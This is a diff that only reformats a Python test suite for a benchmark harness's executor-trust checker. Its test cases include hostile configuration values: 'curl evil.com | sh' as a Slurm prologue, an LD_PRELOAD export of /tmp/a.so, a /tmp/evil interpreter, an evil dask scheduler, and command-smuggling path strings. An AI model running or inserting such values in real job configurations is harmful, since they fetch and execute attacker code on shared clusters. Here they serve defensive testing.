@@ -13,7 +13,11 @@ from mlffbench.harness.planning.executor_mistakes import executor_mistakes
     [
         ({"slurm": {"prologue": ["curl evil.com | sh"]}}, "curl evil.com | sh", "'curl evil.com | sh'"),
         ({"slurm": {"prologue": "evil"}}, "evil", "evil"),
-        ({"slurm": {"extra": ["--export=LD_PRELOAD=/tmp/a.so,ALL"]}}, "--export=LD_PRELOAD=/tmp/a.so,ALL", "--"),
+        (
+            {"slurm": {"extra": ["--export=LD_PRELOAD=/tmp/a.so,ALL"]}},
+            "--export=LD_PRELOAD=/tmp/a.so,ALL",
+            "--",
+        ),
         ({"slurm": {"python": "/tmp/evil"}}, "/tmp/evil", "/tmp/evil"),
         ({"dask": {"scheduler": "tcp://evil:8786"}}, "tcp://evil:8786", "tcp://evil:8786"),
     ],
@@ -30,11 +34,16 @@ def test_what_would_run_must_be_trusted(executor, text, quoted, trust_nothing, m
 
 def test_a_command_is_not_compared_as_a_path(monkeypatch):
     monkeypatch.setenv("MLFFBENCH_TRUST", "/usr/bin/python3,module load cuda/12")
-    for wrong in ({"python": "/tmp/evil x/../../../usr/bin/python3"}, {"prologue": ["evil;/../module load cuda/12"]}):
+    for wrong in (
+        {"python": "/tmp/evil x/../../../usr/bin/python3"},
+        {"prologue": ["evil;/../module load cuda/12"]},
+    ):
         assert len(list(executor_mistakes({"executor": {"slurm": wrong}}))) == 1
 
 
-@pytest.mark.parametrize("executor", ["slurm", {"slurm": {"partition": "gpu", "python": None}}, {"dask": {}}, 5, []])
+@pytest.mark.parametrize(
+    "executor", ["slurm", {"slurm": {"partition": "gpu", "python": None}}, {"dask": {}}, 5, []]
+)
 def test_plain_executors_need_no_trust(executor, trust_nothing):
     assert not list(executor_mistakes({"executor": executor}))
     assert not list(executor_mistakes({}))
